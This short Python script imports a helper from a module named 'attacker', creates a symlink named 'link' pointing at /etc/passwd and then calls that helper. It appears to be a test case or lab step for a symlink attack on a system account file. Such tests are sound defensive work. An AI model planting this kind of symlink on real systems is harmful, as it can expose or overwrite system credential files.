import os

from attacker import finish

os.symlink("/etc/passwd", "link")
finish()
